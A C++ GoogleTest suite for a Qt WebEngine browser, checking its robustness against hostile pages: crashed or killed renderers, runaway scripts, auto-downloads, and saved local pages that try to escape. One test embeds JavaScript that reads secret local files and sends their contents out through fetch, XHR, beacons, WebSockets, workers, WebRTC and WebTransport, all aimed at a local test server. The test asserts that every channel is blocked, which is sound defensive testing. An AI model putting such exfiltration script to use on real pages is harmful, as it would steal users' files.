// What a hostile or broken page may do to the browser with the real engine: open windows from
// a background tab, lose its renderer, loop for ever, read the user's files.
#include "browser/webengine/webengineview.h"
#include "browser/webengine/webengineviewfactory.h"
#include "scriptwait.h"
#include "shell/commands.h"
#include "shell/mainwindow.h"
#include "shell/tabmanager.h"
#include "support/fakedialogs.h"
#include "support/localhttpserver.h"
#include "support/pagewait.h"
#include "support/programfoldercopy.h"
#include "support/waitfor.h"
#include "windowfixture.h"

#include "commands/commandrunner.h"
#include "shell/commands.h"
#include "shell/instanceserver.h"

#include <future>

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QLabel>
#include <QTemporaryDir>
#include <QTest>
#include <QNetworkDatagram>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <gtest/gtest.h>

#include <csignal>

namespace {

using browser::BrowserView;
using testing_support::pause;
using testing_support::waitFor;

class Robustness : public testing_support::WindowFixture {
protected:
    void SetUp() override {
        WindowFixture::SetUp();
        server.addPage("/opener.htm", "<html><head><title>opener</title></head><body>opener"
                                      "<script>onload=()=>setTimeout(()=>"
                                      "window.open('about:blank'),300)</script></body></html>");
        for (const char *path : {"/a.htm", "/b.htm", "/c.htm"})
            server.addPage(path, QByteArray("<html><head><title>") + path +
                                     "</title></head><body>page</body></html>");
    }
    static QWebEnginePage *page(BrowserView *view) {
        return static_cast<browser::WebEngineView *>(view)->page();
    }
    // Opens an address in a new background tab, as a typed address does, and waits for it.
    BrowserView *openInBackground(const QUrl &url) {
        window->openAddress(url.toString());
        BrowserView *view = tabs().viewAt(tabs().viewCount() - 1);
        EXPECT_TRUE(waitFor([&] { return loaded(view) && view->url() == url; }));
        pause(800); // past the new-tab throttle
        return view;
    }
    // Selects every tab in turn and lets each paint: the program must still be alive.
    void selectEveryTab() {
        for (int position = 1; position <= tabs().tabCount(); ++position) {
            tabs().switchByKeyboard(position);
            pause(150);
        }
    }
};

TEST_F(Robustness, ABackgroundTabThatOpenedAWindowCanBeShown) {
    BrowserView *opener = openInBackground(server.url("/opener.htm"));
    pause(1500); // the page's window.open has come and gone (timers are slow in hidden tabs)
    ASSERT_EQ(tabs().viewAt(1), opener);
    selectEveryTab();
    EXPECT_EQ(tabs().currentView(), tabs().viewAtPosition(tabs().tabCount()));
    EXPECT_EQ(opener->title(), "opener");
    EXPECT_EQ(js(opener, "document.title").toString(), "opener");
}

TEST_F(Robustness, BackgroundTabsWhoseRendererWasKilledCanBeShown) {
    QList<BrowserView *> views;
    for (const char *path : {"/a.htm", "/b.htm", "/c.htm"})
        views.append(openInBackground(server.url(path)));
    const qint64 pid = page(views[1])->renderProcessPid();
    ASSERT_GT(pid, 0);
    ::kill(pid_t(pid), SIGKILL);
    ASSERT_TRUE(waitFor([&] { return js(views[1], "1").isNull(); }));
    pause(300);
    selectEveryTab();
    // The page whose renderer was killed comes back with a reload.
    tabs().switchByKeyboard(3);
    views[1]->reload();
    EXPECT_TRUE(waitFor([&] { return js(views[1], "document.title").toString() == "/b.htm"; }));
}

TEST_F(Robustness, BackgroundTabsSurviveANavigationThatCrashesTheirRenderer) {
    BrowserView *a = openInBackground(server.url("/a.htm"));
    BrowserView *b = openInBackground(server.url("/b.htm"));
    a->navigate(QUrl("chrome://crash"));
    b->navigate(QUrl("chrome://kill"));
    pause(1500);
    selectEveryTab();
    EXPECT_EQ(tabs().tabCount(), 3);
}

TEST_F(Robustness, ARendererDeathShowsItsNoticeInItsOwnTabOnly) {
    BrowserView *a = openInBackground(server.url("/a.htm"));
    BrowserView *b = openInBackground(server.url("/b.htm"));
    const auto notice = [](BrowserView *view) {
        QLabel *label = view->widget()->findChild<QLabel *>();
        return label && !label->isHidden() ? label->text() : QString();
    };
    ::kill(pid_t(page(b)->renderProcessPid()), SIGKILL);
    ASSERT_TRUE(waitFor([&] { return !notice(b).isEmpty(); }));
    EXPECT_TRUE(notice(b).contains(QString::fromUtf8("刷新网页"))) << notice(b).toStdString();
    EXPECT_TRUE(notice(a).isEmpty());
    EXPECT_TRUE(notice(tabs().viewAt(0)).isEmpty());
    EXPECT_EQ(js(a, "document.title").toString(), "/a.htm");
    EXPECT_EQ(js(tabs().viewAt(0), "document.title").toString(), "favorites");
}

TEST_F(Robustness, TabsClosedWhileTheirPagesLoadLeaveTheProgramRunning) {
    for (int i = 0; i < 5; ++i) {
        window->openAddress(server.url(i % 2 ? "/opener.htm" : "/a.htm").toString());
        tabs().selectTab(tabs().tabCount());
        tabs().closeCurrent();
        pause(750);
    }
    EXPECT_EQ(tabs().tabCount(), 1);
    EXPECT_EQ(js(tabs().viewAt(0), "document.title").toString(), "favorites");
}

TEST_F(Robustness, APageThatDoesNotAnswerIsNotSavedAndTheUserIsTold) {
    server.addPage("/busy.htm", "<html><head><title>busy</title></head><body>busy"
                                "<script>onload=()=>setTimeout(()=>{for(;;){}},100)</script>"
                                "</body></html>");
    QTemporaryDir saveDir;
    window->setSavePath(saveDir.path());
    BrowserView *busy = openInBackground(server.url("/busy.htm"));
    tabs().switchByKeyboard(tabs().tabCount());
    pause(500);
    ASSERT_FALSE(testing_support::htmlNow(busy).has_value());
    testing_support::chooseEntry(window->commands(), "onlysave");
    testing_support::chooseEntry(window->commands(), "savetext");
    EXPECT_TRUE(QDir(saveDir.path()).entryList(QDir::Files).isEmpty());
    EXPECT_TRUE(dialogs.messageTexts().contains(QString::fromUtf8("网页没有响应，没有保存")))
        << dialogs.messageTexts().join('|').toStdString();
}

// While an all-pages save waits for pages busy with a script, a menu key and an address handed
// over by other starts wait their turn: nothing runs inside the save, the key is answered once
// it has run, and the address opens after it.
TEST_F(Robustness, AKeyAndAnAddressHandedOverDuringASaveOfBusyPagesWaitTheirTurn) {
    server.addPage("/busy.htm", "<html><head><title>busy</title></head><body>busy"
                                "<script>onload=()=>setTimeout(()=>{for(;;){}},100)</script>"
                                "</body></html>");
    server.addPage("/calm.htm", "<html><head><title>calm</title></head><body>calm</body></html>");
    QTemporaryDir saveDir;
    window->setSavePath(saveDir.path());
    openInBackground(server.url("/busy.htm"));
    openInBackground(server.url("/calm.htm"));
    openInBackground(server.url("/busy.htm?2"));
    const int tabsBefore = tabs().tabCount();
    QTemporaryDir runtime;
    const QString socketName = QDir(runtime.path()).filePath("s");
    shell::InstanceServer instance(socketName);
    ASSERT_TRUE(instance.serve(*window));

    commands::CommandRunner &runner = window->commands().runner();
    window->commands().runMenuEntry("saveallo");
    ASSERT_TRUE(runner.isBusy());
    auto key = std::async(std::launch::async, [&] {
        return shell::InstanceServer(socketName).send({{}, "deletealls"}, 60000);
    });
    ASSERT_TRUE(waitFor([&] { return runner.waiting() == 1; }));
    const QUrl later = server.url("/calm.htm?later");
    auto address = std::async(std::launch::async, [&] {
        return shell::InstanceServer(socketName).send({{later}, {}}, 60000);
    });
    ASSERT_TRUE(waitFor(
        [&] { return address.wait_for(std::chrono::seconds(0)) == std::future_status::ready; }));
    EXPECT_EQ(address.get(), shell::InstanceServer::Reply::Done);
    EXPECT_TRUE(runner.isBusy()); // the save still waits for the busy pages
    EXPECT_EQ(tabs().tabCount(), tabsBefore);

    ASSERT_TRUE(testing_support::untilIdle(window->commands(), 60000));
    ASSERT_TRUE(waitFor(
        [&] { return key.wait_for(std::chrono::seconds(0)) == std::future_status::ready; }));
    EXPECT_EQ(key.get(), shell::InstanceServer::Reply::Done);
    EXPECT_EQ(QDir(saveDir.path()).entryList(QDir::Files), QStringList({"calm.htm"}));
    // The key closed every tab after the save; the address then opened in a tab of its own.
    ASSERT_EQ(tabs().tabCount(), 2);
    EXPECT_TRUE(waitFor([&] { return tabs().viewAtPosition(2)->url() == later; }));
}

// A saved page opened from the disk runs its scripts, but can read no other local file and
// reach no server on its own, by any channel: subresources, frames, sockets, new windows and
// navigations (which the tab rules might otherwise turn into new tabs).
TEST_F(Robustness, ASavedPageReadsNoLocalFileAndReachesNoServer) {
    QTemporaryDir saved;
    QTemporaryDir other;
    const auto write = [](const QString &path, const QByteArray &bytes) {
        QFile file(path);
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(bytes);
    };
    const QString secret = QDir(other.path()).filePath("secret.txt");
    write(secret, "TOPSECRET");
    const QString sibling = QDir(saved.path()).filePath("sibling.txt");
    write(sibling, "SIBLINGSECRET");
    const QString secretUrl = QUrl::fromLocalFile(secret).toString();
    const QString siblingUrl = QUrl::fromLocalFile(sibling).toString();
    const QString server0 = server.url("/").toString();
    QUrl socket = server.url("/socket");
    socket.setScheme("ws");
    const QString page =
        QString("<html><head><title>saved</title>"
                "<link rel=stylesheet href='%3css'><link rel=prefetch href='%3prefetch'>"
                "<link rel=preload as=fetch href='%3preload'><link rel=preconnect href='%3'>"
                "<style>p{background:url('%3cssurl')}</style><script src='%3script'></script>"
                "</head><body>saved page<p>p</p><iframe src='%3frame'></iframe>"
                "<a id=blank target=_blank href='%3blank'>blank</a>"
                "<a id=link href='%3clicked' style='font-size:60px'>link</a>"
                "<a id=newlink target=_blank href='%3clickednew' style='font-size:60px'>new</a>"
                "<script>setTimeout(()=>{document.title='ran';"
                "new Image().src='%3image?d=x';"
                "const got=[];const send=t=>{got.push(t);"
                "fetch('%3leak?d='+encodeURIComponent(t)).catch(()=>{});"
                "document.title='ran read:'+got.join(',');};"
                "for(const u of ['%1','%2']){"
                "fetch(u).then(r=>r.text()).then(send).catch(()=>{});"
                "try{const x=new XMLHttpRequest();x.open('GET',u);"
                "x.onload=()=>send(x.responseText);x.send();}catch(e){}}"
                "fetch('%3fetched').then(r=>r.text()).then(send).catch(()=>{});"
                "try{const x=new XMLHttpRequest();x.open('GET','%3xhr');x.send();}catch(e){}"
                "navigator.sendBeacon && navigator.sendBeacon('%3beacon','x');"
                "try{new WebSocket('%4')}catch(e){}"
                "try{new EventSource('%3events')}catch(e){}"
                "new Worker(URL.createObjectURL(new Blob([\"fetch('%3worker');"
                "new WebSocket('%4?worker')\"])));"
                "setTimeout(()=>window.open('%3open'),1000);"
                "setTimeout(()=>document.getElementById('blank').click(),1900);"
                "const f=document.createElement('iframe');f.onload=()=>{try{"
                "send(f.contentDocument.body.innerText);}catch(e){}};f.src='%1';"
                "document.body.appendChild(f);},300)</script></body></html>")
            .arg(secretUrl, siblingUrl, server0, socket.toString());
    const QString path = QDir(saved.path()).filePath("saved.htm");
    write(path, page.toUtf8());
    // Pages that leave for the server on their own: run in background tabs while the
    // favourites page is shown, where a followed link would open a tab of its own.
    const QStringList leaving = {
        QString("<body onload=\"location.href='%1location'\">location</body>"),
        QString(
            "<head><meta http-equiv=refresh content='0;url=%1refresh'></head><body>meta</body>"),
        QString("<body onload='document.forms[0].submit()'><form action='%1form' method=post>"
                "<input name=a value=1></form></body>"),
    };
    const QStringList paths = {"css",   "prefetch", "preload", "cssurl", "script",
                               "frame", "blank",    "image",   "leak",   "fetched",
                               "xhr",   "beacon",   "socket",  "events", "worker",
                               "open",  "location", "refresh", "form"};
    for (const QString &name : paths)
        server.addPage("/" + name, name.toUtf8());

    // Shown at once: a frame that loads while the favourites page is the current page would
    // be taken for a favourite being followed.
    window->openAddress(QUrl::fromLocalFile(path).toString());
    BrowserView *view = tabs().viewAt(tabs().viewCount() - 1);
    tabs().switchByKeyboard(tabs().tabCount());
    ASSERT_TRUE(waitFor([&] { return loaded(view); }));
    pause(2500); // past the window.open and the click on the blank target
    EXPECT_EQ(tabs().tabCount(), 2);
    EXPECT_EQ(js(view, "document.body.firstChild.textContent").toString(), "saved page");
    const QString title = view->title();
    EXPECT_TRUE(title.startsWith("ran")) << title.toStdString(); // its scripts do run
    EXPECT_FALSE(title.contains("TOPSECRET")) << title.toStdString();
    EXPECT_FALSE(title.contains("SIBLINGSECRET")) << title.toStdString();
    EXPECT_FALSE(title.contains("FETCHED")) << title.toStdString();

    tabs().selectTab(1);
    QList<BrowserView *> background;
    for (int i = 0; i < leaving.size(); ++i) {
        const QString file = QDir(saved.path()).filePath(QString("leaving%1.htm").arg(i));
        write(file, leaving[i].arg(server0).toUtf8());
        background.append(tabs().openInNewTab(QUrl::fromLocalFile(file), true));
    }
    for (BrowserView *tab : background)
        EXPECT_TRUE(waitFor([&] { return loaded(tab); }));
    pause(2000);
    for (const QString &name : paths)
        EXPECT_EQ(server.requestsFor("/" + name), 0) << name.toStdString();
    EXPECT_EQ(server.connectionCount(), 0);
    EXPECT_EQ(tabs().tabCount(), 2 + leaving.size());

    // The user's own clicks on the saved page's links still lead to the server: a link with a
    // blank target opens a tab, a plain link leaves the saved page.
    server.addPage("/clicked", "clicked");
    server.addPage("/clickednew", "clickednew");
    tabs().selectTab(2);
    QWidget *target = static_cast<browser::WebEngineView *>(view)->engineView()->focusProxy();
    ASSERT_TRUE(target);
    for (const auto &[id, address] : {std::pair("newlink", "/clickednew"), {"link", "/clicked"}}) {
        const QPoint at = centreOf(view, id);
        ASSERT_FALSE(at.isNull()) << id;
        QTest::mouseMove(target, at);
        ASSERT_TRUE(waitFor([&] { return tabs().statusText().startsWith("http"); })) << id;
        QTest::mouseClick(target, Qt::LeftButton, {}, at);
        EXPECT_TRUE(waitFor([&] { return server.requestsFor(address) == 1; })) << id;
    }
    EXPECT_EQ(tabs().tabCount(), 3 + leaving.size());
    EXPECT_TRUE(waitFor([&] { return view->url() == server.url("/clicked"); }));
}

// A saved page that tries to leave on its own stays shown, and s2 says what was kept from it,
// not that the page failed to open.
TEST_F(Robustness, ASavedPageKeptFromLeavingSaysWhereItWantedToGo) {
    QTemporaryDir saved;
    const QString path = QDir(saved.path()).filePath("leaving.htm");
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(QString("<title>leaving</title><body onload=\"location.href='%1'\">saved</body>")
                   .arg(server.url("/away").toString())
                   .toUtf8());
    file.close();
    window->openAddress(QUrl::fromLocalFile(path).toString());
    BrowserView *view = tabs().viewAt(tabs().viewCount() - 1);
    tabs().switchByKeyboard(tabs().tabCount());
    EXPECT_TRUE(waitFor([&] {
        return window->panelText("s2").startsWith(QString::fromUtf8("已阻止保存的网页自己打开"));
    })) << window->panelText("s2").toStdString();
    EXPECT_TRUE(window->panelText("s2").contains("/away"));
    EXPECT_EQ(view->url(), QUrl::fromLocalFile(path));
    EXPECT_EQ(server.requestsFor("/away"), 0);
}

// Channels the request filter never sees: WebRTC's STUN and TURN and WebTransport (both over
// UDP, logged here), and a WebSocket of a blob: page that a saved page made and went to.
TEST_F(Robustness, ASavedPageReachesNoServerByWebRtcWebTransportOrABlobPage) {
    QUdpSocket udp;
    ASSERT_TRUE(udp.bind(QHostAddress::LocalHost, 0));
    int datagrams = 0;
    QObject::connect(&udp, &QUdpSocket::readyRead, [&] {
        while (udp.hasPendingDatagrams()) {
            udp.receiveDatagram();
            ++datagrams;
        }
    });
    const QString port = QString::number(udp.localPort());
    QTemporaryDir saved;
    const auto write = [&](const QString &name, const QString &html) {
        QFile file(QDir(saved.path()).filePath(name));
        EXPECT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(html.toUtf8());
        return QUrl::fromLocalFile(file.fileName());
    };
    const QUrl channels = write(
        "channels.htm",
        QString("<title>channels</title><script>const done=[];"
                "const mark=t=>{done.push(t);document.title='done:'+done.sort().join(',')};"
                "try{const pc=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:%1'},"
                "{urls:'turn:127.0.0.1:%1?transport=udp',username:'u',credential:'p'}]});"
                "pc.createDataChannel('x');pc.onicegatheringstatechange=()=>{"
                "if(pc.iceGatheringState==='complete')mark('rtc')};"
                "pc.createOffer().then(o=>pc.setLocalDescription(o)).catch(()=>mark('rtc'));"
                "}catch(e){mark('rtc')}"
                "try{new WebTransport('https://127.0.0.1:%1/wt').ready.then(()=>mark('wt'),"
                "()=>mark('wt'))}catch(e){mark('wt')}</script>")
            .arg(port));
    QUrl socket = server.url("/blobsocket");
    socket.setScheme("ws");
    const QUrl blob = write(
        "blob.htm",
        QString("<title>blob</title><script>const page='<title>made</title><script>"
                "const w=new WebSocket(\"%1\");w.onerror=w.onclose=()=>"
                "{document.title=\"made:closed\"};<\\/script>';"
                "location.href=URL.createObjectURL(new Blob([page],{type:'text/html'}));"
                "</script>")
            .arg(socket.toString()));
    BrowserView *rtc = tabs().openInNewTab(channels, true);
    BrowserView *made = tabs().openInNewTab(blob, true);
    // Either the page is done with them, or the server heard from it.
    EXPECT_TRUE(waitFor([&] { return rtc->title() == "done:rtc,wt" || datagrams > 0; }, 30000))
        << rtc->title().toStdString();
    EXPECT_TRUE(waitFor([&] { return made->title() == "made:closed" || server.connectionCount(); },
                        30000))
        << made->title().toStdString() << " " << made->url().toString().toStdString();
    EXPECT_EQ(datagrams, 0);
    EXPECT_EQ(server.connectionCount(), 0);
}

TEST_F(Robustness, APageThatDownloadsOnItsOwnAsksFirstAndAClickedLinkDoesNot) {
    server.addPage("/file.zip", QByteArray("PK\x03\x04 zip"), "application/zip");
    server.addPage("/auto.htm", "<html><body>auto<script>onload=()=>setTimeout(()=>{"
                                "location.href='/file.zip'},100)</script></body></html>");
    server.addPage("/click.htm", "<html><body><a id=z href='/file.zip' style='font-size:60px'>"
                                 "zip</a></body></html>");
    QTemporaryDir saveDir;
    window->setDownloadFolder(saveDir.path());
    const QString saved = QDir(saveDir.path()).filePath("file.zip");
    dialogs.answers = {commands::Dialogs::Answer::No};
    window->openAddress(server.url("/auto.htm").toString());
    ASSERT_TRUE(waitFor([&] { return !dialogs.shown.isEmpty(); })) << [&] {
        std::string out;
        for (int i = 0; i < tabs().viewCount(); ++i)
            out += tabs().viewAt(i)->url().toString().toStdString() + " ";
        return out + window->panelText("s2").toStdString();
    }();
    const QString question = dialogs.shown[0].text;
    EXPECT_TRUE(question.contains("file.zip")) << question.toStdString();
    EXPECT_TRUE(question.contains(QDir::toNativeSeparators(saveDir.path())));
    pause(500);
    EXPECT_FALSE(QFile::exists(saved));

    pause(800);
    dialogs.shown.clear();
    window->openAddress(server.url("/click.htm").toString());
    BrowserView *view = tabs().viewAt(tabs().viewCount() - 1);
    tabs().switchByKeyboard(tabs().tabCount());
    ASSERT_TRUE(waitFor([&] { return loaded(view); }));
    const QPoint at = centreOf(view, "z");
    ASSERT_FALSE(at.isNull());
    QWidget *target = static_cast<browser::WebEngineView *>(view)->engineView()->focusProxy();
    ASSERT_TRUE(target);
    QTest::mouseMove(target, at);
    ASSERT_TRUE(waitFor([&] { return tabs().statusText().startsWith("http"); }));
    QTest::mouseClick(target, Qt::LeftButton, {}, at);
    ASSERT_TRUE(waitFor([&] { return QFile::exists(saved); }))
        << tabs().tabCount() << " " << dialogs.messageTexts().join('|').toStdString();
    EXPECT_TRUE(dialogs.shown.isEmpty());
}

} // namespace
